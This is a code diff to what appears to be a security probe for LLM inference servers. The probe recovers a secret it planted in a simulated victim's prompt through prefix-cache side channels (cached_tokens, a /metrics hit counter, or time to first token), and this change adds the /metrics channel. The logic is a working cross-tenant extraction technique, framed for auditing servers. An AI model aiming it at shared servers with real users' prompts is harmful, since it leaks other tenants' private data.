@@ -9,49 +9,32 @@ exactly those tokens in the cache. The filler is one character outside the alpha
 counts the last prompt token as cached (its forward pass yields the first output), so without it the
 candidate's own last character could never show up as a hit.
 
-Channels, in the order they are tried (a calibration with the attacker's own prompts decides):
+Channels, in the order a calibration with the attacker's own prompts admits them: the response's
+``usage.prompt_tokens_details.cached_tokens``; the prefix-cache-hit counter of the server's /metrics
+(``probe.metrics``, read around each attacker request, one at a time), when it is finer than the field,
+since a server that hides or coarsens ``cached_tokens`` may count every hit there; TTFT otherwise. A count
+reported in blocks of G tokens shows a hit only when the candidate completes a block, so one step guesses
+every string up to the next boundary and gives up (``unreachable``) past ``max_candidates``; the simulated
+victim's prefix is padded to put that boundary as far in as the budget reaches, because a probe must show
+the worst case (``--prefix`` keeps your own layout). TTFT compares candidates by rank within repeats, so
+slow drift between repeats cannot fake a winner, and one right character saves only one token of prefill,
+often within an HTTP request's noise: expect ``inconclusive`` on a busy machine. Whether the victim's
+*prefix* shows in TTFT at all is measured apart (an AUC against fresh prefixes of the same length).
 
-- ``usage.prompt_tokens_details.cached_tokens``. The calibration also infers its *granularity* G: the
-  reported values of prompts whose first n tokens are cached are floor(n / G) * G, so G is the gcd of
-  what comes back (1 = exact). A hit is then only visible when the candidate completes a reporting block,
-  so one step guesses every string that reaches the next block boundary (``alphabet ** width``
-  candidates) and gives up (``unreachable``) when that exceeds ``max_candidates``. The simulated victim's
-  prefix is padded so that the secret's first boundary lies as far in as the budget can reach: the
-  layout best for the attacker, because a probe must show the worst case (``--prefix`` uses a layout of
-  your own, unpadded). After that step the next boundary is a whole block away, which no budget covers.
-- TTFT, when the field is absent or never shows a hit even for the attacker's own repeated prompts: the
-  latency of a 1-token request. Every candidate is timed ``ttft_repeats`` times, each time on another
-  victim conversation (see below), all candidates interleaved in a random order within a repeat. Within
-  a repeat the candidates are ranked by latency; the candidate with the lowest rank sum wins if a
-  permutation test (ranks shuffled within each repeat: slow drift between repeats cannot fake a winner;
-  the minimum over all candidates, so picking the fastest is accounted for) gives p <= ``ttft_alpha``.
-  One right character saves the server one token of prefill, often within the noise of an HTTP
-  request: expect ``inconclusive`` on a busy machine; the report shows the medians. Whether the victim's
-  *prefix* is visible in TTFT at all is measured separately (AUC of victim-prefix hits against fresh
-  prefixes of the same length).
+The attacker's own guesses must not count as evidence. They are cached too, in the victim's tenant on a
+server that shares between them (the case that matters). A per-request ``cache_salt`` would keep them
+apart from the victim as well (the victim sends none), so instead every attacker prompt is
+``prefix + s + FILLER`` with ``s`` over the alphabet: a candidate ``prefix + recovered + c`` could only be
+matched by a guess whose alphabet part starts with ``recovered + c``, which earlier steps' guesses (no
+longer than ``recovered``, then the filler) and this step's others (different inside ``c``) never have. So
+a hit past ``recovered`` comes from the victim. For the same reason each TTFT repeat uses another victim
+conversation, and the calibration prompts start with a character no prefix starts with. The victim
+re-sends its prompt before every step and every ``victim_every`` attacker requests, so the attacker's own
+traffic cannot have evicted it.
 
-The attacker's own guesses must not count as evidence. Its requests are cached too, in its own tenant —
-the same one as the victim's on a server that shares between them, which is exactly the case that
-matters. A per-request random ``cache_salt`` would keep the guesses apart, but it would keep them apart
-from the victim as well (a salt narrows the namespace, and the victim sends none), so the attack would
-measure nothing. Instead the guesses are shaped so that no guess can hit another: every attacker prompt
-is ``prefix + s + FILLER`` with ``s`` over the alphabet and FILLER outside it. A candidate of the current
-step, ``prefix + recovered + c``, could only be matched by an earlier guess whose alphabet part starts
-with ``recovered + c``; earlier steps' guesses have alphabet parts no longer than ``recovered`` and end
-with the filler, and the other guesses of this step differ inside ``c``. So a hit past ``recovered`` comes
-from the victim. In TTFT mode every repeat uses another victim conversation (its prefix carries another
-id), so a repeat never meets the cache entries of the previous repeat's guesses. The calibration prompts
-start with a character that no prefix starts with.
-
-The victim re-sends its prompt before every step and every ``victim_every`` attacker requests, so its
-entries cannot have been evicted (least recently used first) by the attacker's own traffic.
-
-The verdict. The probe made the secret, so it checks what the attacker recovered. ``leak``: a correct
-prefix of the secret was recovered and the chance of getting it by guessing, the product of 1 / (number
-of candidates) over its steps, is at most ``alpha``. ``no leak``: the cached-tokens channel works (the
-calibration saw the attacker's own hits), the first step tried every candidate, and none hit beyond the
-known part. ``inconclusive`` otherwise — granularity, timing noise, a recovery too short to beat chance,
-or a channel that picked a wrong character — and it never claims safety.
+The probe made the secret, so ``decide`` checks what was recovered against chance (``alpha``); it says
+``no leak`` only when a count channel was shown to work and no candidate of the first step hit, and
+``inconclusive`` never claims safety.
 
 Character = token holds for byte-level tokenizers (the mini model); on others, the positions are only
 approximate and the report says so.
@@ -67,10 +50,11 @@ import string
 import time
 import uuid
 from collections.abc import Callable, Iterator, Sequence
-from dataclasses import asdict, dataclass, field
+from dataclasses import asdict, dataclass, field, replace
 from typing import Any, Protocol
 
 from kvlab.probe.client import Client, ProbeError, cached_tokens_of, find_tokenizer
+from kvlab.probe.metrics import find_metrics, metered, own_hit
 from kvlab.probe.timing import auc, midranks
 
 DEFAULT_ALPHABET = "abcdefghijklmnop"
@@ -85,6 +69,7 @@ CALIBRATION_START = "{"  # no victim prefix starts with it, so calibration entri
 TTFT_PREFIX_CHARS = 400  # long enough that a prefix hit is visible in TTFT on a CPU model
 MAX_SECRET_CHARS = 64  # the attacker stops here even if every step keeps hitting
 VERDICTS = ("leak", "no leak", "inconclusive")
+COUNT_CHANNELS = ("cached_tokens", "metrics")  # the channels that count hit tokens (TTFT only times them)
 
 
 @dataclass(frozen=True)
@@ -92,6 +77,7 @@ class Reply:
     cached_tokens: int | None  # None: the server did not report it
     prompt_tokens: int | None
     seconds: float  # latency of the (1-token) request: the TTFT
+    counter_hits: int | None = None  # how far the /metrics hit counter moved around it; None: not read
 
 
 class Sender(Protocol):
@@ -160,8 +146,9 @@ class ExtractReport:
     alphabet: str
     secret: str
     prefix_chars: int
-    channel: str = ""  # cached_tokens | ttft
-    granularity: int | None = None  # of the cached_tokens reports; 1 = exact
+    channel: str = ""  # cached_tokens | metrics | ttft
+    granularity: int | None = None  # of the channel's hit counts (cached_tokens or /metrics); 1 = exact
+    metrics: str = "not checked"  # what /metrics showed the attacker (MetricsCheck.summary)
     calibration: dict[str, Any] = field(default_factory=dict)
     prefix_visible: bool | None = None  # does the victim's known prefix hit for the attacker?
     prefix_hit_tokens: int | None = None
@@ -183,9 +170,10 @@ class ExtractReport:
 
     @property
     def channel_label(self) -> str:
-        if self.channel != "cached_tokens":
+        if self.channel not in COUNT_CHANNELS:
             return "TTFT (time to first token; cached_tokens not usable)"
-        return "cached_tokens, exact" if self.granularity == 1 else f"cached_tokens, blocks of {self.granularity}"
+        name = "cached_tokens" if self.channel == "cached_tokens" else "the /metrics prefix-cache-hit counter"
+        return f"{name}, exact" if self.granularity == 1 else f"{name}, blocks of {self.granularity}"
 
 
 # ------------------------------------------------------------------ pure pieces
@@ -253,7 +241,7 @@ def decide(report: ExtractReport, alpha: float) -> tuple[str, str]:
             f"guessing would get them right with probability {report.chance:.2g}{rest}"
         )
     first = report.steps[0] if report.steps else None
-    if report.channel == "cached_tokens" and not report.recovered and first is not None and first.outcome == "no hit":
+    if report.channel in COUNT_CHANNELS and not report.recovered and first is not None and first.outcome == "no hit":
         seen = {True: "is visible to", False: "is hidden from", None: "was not checked for"}[report.prefix_visible]
         return "no leak", (
             f"all {first.tried} candidates for the secret's first {first.width} character(s) were "
@@ -283,8 +271,10 @@ class _Attack:
         cfg: ExtractConfig,
         report: ExtractReport,
         token_count: Callable[[str], int | None] | None = None,
+        counter: Callable[[], float | None] | None = None,
     ) -> None:
         self.token_count = token_count
+        self.counter = counter  # the /metrics hit counter; dropped once the calibration chose another channel
         self.attacker, self.victim, self.cfg, self.report = attacker, victim, cfg, report
         self.rng = random.Random(cfg.seed)
         self.filler = next(f for f in FILLERS if f not in cfg.alphabet)
@@ -309,7 +299,15 @@ class _Attack:
             self.resend_victims()
         self.report.attacker_requests += 1
         self.since_victim += 1
-        return self.attacker.send(prompt)
+        if self.counter is None:
+            return self.attacker.send(prompt)
+        # Read after the victim's re-sends: the delta is this request's own hits.
+        reply, delta = metered(self.counter, lambda: self.attacker.send(prompt))
+        return replace(reply, counter_hits=delta)
+
+    def hits(self, reply: Reply) -> int:
+        """The hit tokens the chosen channel shows for ``reply``."""
+        return (reply.counter_hits if self.report.channel == "metrics" else reply.cached_tokens) or 0
 
     def _note_tokenizer(self) -> None:
         note = "the tokenizer is not byte-level: character positions are only approximately token positions"
@@ -337,14 +335,22 @@ class _Attack:
         """Cache one long fresh prompt, then ask for its prefixes: their reports give the channel and G."""
         body = "".join(self.rng.choice(string.ascii_letters + string.digits) for _ in range(max(CALIBRATION_LENGTHS)))
         base = CALIBRATION_START + self.run_id + body
-        reported = []
+        reported: list[int | None] = []
+        counted: list[int | None] = []
         for n in CALIBRATION_LENGTHS:
             # Cached again before every question: a server that keeps only each slot's last prompt (llama.cpp)
             # would otherwise answer against the previous question instead of the long prompt.
             self.attack(base + "!")
-            reported.append(self.attack(base[:n] + "?").cached_tokens)
+            reply = self.attack(base[:n] + "?")
+            reported.append(reply.cached_tokens)
+            counted.append(reply.counter_hits)
         g = infer_granularity(CALIBRATION_LENGTHS, reported)
         self.report.calibration = {"cached_lengths": list(CALIBRATION_LENGTHS), "reported": reported}
+        if self.counter is not None:
+            self.report.calibration["counted"] = counted
+            if self._choose_counter(infer_granularity(CALIBRATION_LENGTHS, counted), g):
+                return
+        self.counter = None  # not the channel: two /metrics reads per request would only slow the attack
         self.report.granularity = g
         if g is not None:
             self.report.channel = "cached_tokens"
@@ -364,6 +370,16 @@ class _Attack:
             )
         else:
             self.report.notes.append(f"cached_tokens reports follow no block size ({reported}): falling back to TTFT")
+
+    def _choose_counter(self, counted: int | None, reported: int | None) -> bool:
+        """Use the /metrics counter when it shows hits finer than cached_tokens does (or where that is absent)."""
+        if counted is None or (reported is not None and counted >= reported):
+            return False
+        self.report.channel, self.report.granularity = "metrics", counted
+        hidden = "not reported" if reported is None else f"reported in blocks of {reported}"
+        unit = "exactly" if counted == 1 else f"in blocks of {counted}"
+        self.report.notes.append(f"cached_tokens is {hidden}, but /metrics counts the hits {unit}: reading that")
+        return True
 
     def _token_unit(self, prefixes: Sequence[str], reported: Sequence[int | None]) -> str | None:
         """Character lengths were asked; if token counts came back (a BPE server), what they count, said in
@@ -403,7 +419,7 @@ class _Attack:
         self.resend_victims()
         # Does the attacker see the victim's prefix at all? (Ends in the filler: no guess can match it.)
         shown = (tokens(prefix) // g) * g
-        self.report.prefix_hit_tokens = self.attack(prefix + self.filler).cached_tokens
+        self.report.prefix_hit_tokens = self.hits(self.attack(prefix + self.filler))
         self.report.prefix_visible = (self.report.prefix_hit_tokens or 0) >= shown if shown else None
         while len(self.report.recovered) < MAX_SECRET_CHARS:
             step = self.cached_step(prefix, self.report.recovered, g)
@@ -427,7 +443,7 @@ class _Attack:
         self.resend_victims()
         for cand in self.candidates(width):
             step.tried += 1
-            if (self.attack(prefix + recovered + cand + self.filler).cached_tokens or 0) >= known + width:
+            if self.hits(self.attack(prefix + recovered + cand + self.filler)) >= known + width:
                 step.outcome, step.guess = "recovered", cand
                 return step
         step.detail = f"none of the {count} candidates extended the cached prefix (end of the secret, or no sharing)"
@@ -537,16 +553,18 @@ def extract(
     base_url: str = "",
     model: str = "",
     token_count: Callable[[str], int | None] | None = None,
+    counter: Callable[[], float | None] | None = None,
 ) -> ExtractReport:
     """Run the attack with these two identities; see the module docstring. ``token_count``: the server's
-    tokenizer, where it offers one (only used to explain a token-exact cached_tokens on a BPE model)."""
+    tokenizer, where it offers one (only used to explain a token-exact cached_tokens on a BPE model);
+    ``counter``: the server's prefix-cache-hit counter as the attacker reads it (/metrics), where it can."""
     cfg.validate()
     t0 = time.perf_counter()
     secret = make_secret(cfg, random.Random(None if cfg.seed is None else cfg.seed + 1))
     report = ExtractReport(base_url, model, cfg.alphabet, secret, 0)
-    run = _Attack(attacker, victim, cfg, report, token_count)
+    run = _Attack(attacker, victim, cfg, report, token_count, counter)
     run.calibrate()
-    if report.channel == "cached_tokens":
+    if report.channel in COUNT_CHANNELS:
         run.run_cached()
     else:
         run.run_ttft()
@@ -563,22 +581,35 @@ def run_extract(
     *,
     api_key: str | None = None,
     victim_api_key: str | None = None,
+    metrics_api_key: str | None = None,
     timeout: float = 60.0,
 ) -> ExtractReport:
     """``extract`` against a server: the attacker and the victim each on their own pooled connection to
-    ``base_url`` (and nowhere else), with their own API keys."""
-    with (
-        Client(base_url, model, timeout, api_key=api_key, max_connections=2) as a,
-        Client(base_url, model, timeout, api_key=victim_api_key, max_connections=2) as v,
-    ):
-        count = None
-        if find_tokenizer(a):
+    ``base_url`` (and nowhere else), with their own API keys. /metrics is read as the attacker can (no key,
+    or its own), or with ``metrics_api_key`` for an operator auditing their own server."""
+    check, reader = find_metrics(base_url, timeout, metrics_api_key, api_key)
+    try:
+        with (
+            Client(base_url, model, timeout, api_key=api_key, max_connections=2) as a,
+            Client(base_url, model, timeout, api_key=victim_api_key, max_connections=2) as v,
+        ):
+            count = None
+            if find_tokenizer(a):
 
-            def count(text: str) -> int | None:
-                ids = a.tokenize(text)
-                return None if ids is None else len(ids)
+                def count(text: str) -> int | None:
+                    ids = a.tokenize(text)
+                    return None if ids is None else len(ids)
 
-        return extract(HttpSender(a), HttpSender(v), cfg, base_url=base_url, model=model, token_count=count)
+            counter = reader.hits if reader is not None else None
+            report = extract(
+                HttpSender(a), HttpSender(v), cfg, base_url=base_url, model=model, token_count=count, counter=counter
+            )
+    finally:
+        if reader is not None:
+            reader.close()
+    check.own_hit = own_hit(report.calibration.get("counted", []))
+    report.metrics = check.summary()
+    return report
 
 
 def render(report: ExtractReport) -> str:
@@ -590,6 +621,7 @@ def render(report: ExtractReport) -> str:
         f"  recovered: {r.recovered!r} ({r.correct_chars} correct of {len(r.secret)}: {r.secret!r})",
         f"  requests: {r.attacker_requests} attacker + {r.victim_requests} victim in {r.seconds:.1f}s"
         + (f"; {r.requests_to_recover} until the last correct character" if r.requests_to_recover else ""),
+        f"  metrics: {r.metrics}",
     ]
     if r.prefix_visible is not None:
         lines.append(f"  the victim's known prefix is {'' if r.prefix_visible else 'not '}visible to the attacker")
